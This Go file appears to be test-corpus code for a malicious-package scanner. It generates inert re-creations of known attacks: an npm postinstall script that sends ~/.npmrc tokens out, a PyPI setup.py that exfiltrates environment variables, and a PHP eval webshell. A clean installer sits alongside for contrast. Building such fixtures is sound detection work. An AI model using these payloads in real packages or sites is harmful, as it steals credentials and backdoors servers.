package corpus

import "github.com/doorman-sec/doorman/internal/fixture"

// Package cases: inert re-creations of documented malicious packages as
// the registries serve them (an npm tarball under package/, a PyPI sdist),
// and clean look-alikes that do the same kind of thing honestly. Hosts are
// reserved names; nothing here runs.
func init() {
	for name, gen := range packageGenerators {
		if _, dup := Generators[name]; dup {
			panic("corpus: generator " + name + " defined twice")
		}
		Generators[name] = gen
	}
}

var packageGenerators = map[string]func(tmp string) (string, error){
	// eslint-scope 3.7.2 (July 2018): a postinstall script read ~/.npmrc
	// and sent the npm token away. Re-created with example.invalid.
	"pkg-npm-npmrc-stealer": func(tmp string) (string, error) {
		return write(tmp, "eslint-scope-3.7.2.tgz", fixture.Gzip(fixture.Tar([]fixture.File{
			{Path: "package/package.json", Data: []byte(`{"name":"eslint-scope","version":"3.7.2","main":"lib/index.js","scripts":{"postinstall":"node ./lib/build.js"}}`)},
			{Path: "package/lib/index.js", Data: []byte("module.exports = function analyze(ast) { return { scopes: [] }; };\n")},
			{Path: "package/lib/build.js", Data: []byte(`const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
try {
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const req = https.request({ hostname: 'paste.example.invalid', path: '/api/create', method: 'POST' });
  req.write(npmrc);
  req.end();
} catch (e) {}
`)},
		})))
	},
	// ctx 0.2.2 (May 2022): the package sent the whole environment to a
	// remote host when imported. Re-created in setup.py (install time).
	"pkg-pypi-env-exfil": func(tmp string) (string, error) {
		return write(tmp, "ctx-0.2.2.tar.gz", fixture.Gzip(fixture.Tar([]fixture.File{
			{Path: "ctx-0.2.2/PKG-INFO", Data: []byte("Metadata-Version: 2.1\nName: ctx\nVersion: 0.2.2\n\n")},
			{Path: "ctx-0.2.2/setup.py", Data: []byte(`import os, base64, urllib.request
from setuptools import setup

data = base64.b64encode(str(dict(os.environ)).encode()).decode()
urllib.request.urlopen("https://collect.example.invalid/?e=" + data)

setup(name="ctx", version="0.2.2", packages=["ctx"])
`)},
			{Path: "ctx-0.2.2/ctx/__init__.py", Data: []byte("class Ctx(dict):\n    pass\n")},
		})))
	},
	// A PHP webshell dropped into a web root: request data evaluated.
	"pkg-php-webshell": func(tmp string) (string, error) {
		return write(tmp, "site.zip", fixture.Zip([]fixture.File{
			{Path: "site/index.php", Data: []byte("<?php echo 'hello'; ?>\n")},
			{Path: "site/wp-content/uploads/cache.php", Data: []byte("<?php if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); } ?>\n")},
		}))
	},
	// Clean: an esbuild-style installer that downloads its platform binary
	// and checks a pinned SHA-256 before using it; a telemetry call that
	// sends only the package name and version.
	"pkg-clean-npm-installer": func(tmp string) (string, error) {
		return write(tmp, "fastbuild-1.0.0.tgz", fixture.Gzip(fixture.Tar([]fixture.File{
			{Path: "package/package.json", Data: []byte(`{"name":"fastbuild","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`)},
			{Path: "package/install.js", Data: []byte(`const https = require('https');
const crypto = require('crypto');
const fs = require('fs');
const { execFileSync } = require('child_process');
const EXPECTED = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
https.get('https://registry.example.com/fastbuild-linux-x64-1.0.0.tgz', (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {
    const body = Buffer.concat(chunks);
    const sum = crypto.createHash('sha256').update(body).digest('hex');
    if (sum !== EXPECTED) throw new Error('checksum mismatch');
    fs.writeFileSync('bin/fastbuild', body, { mode: 0o755 });
    execFileSync('bin/fastbuild', ['--version']);
  });
});
https.request({ hostname: 'telemetry.example.com', path: '/install', method: 'POST' }).end(JSON.stringify({ name: 'fastbuild', version: '1.0.0' }));
`)},
		})))
	},
}
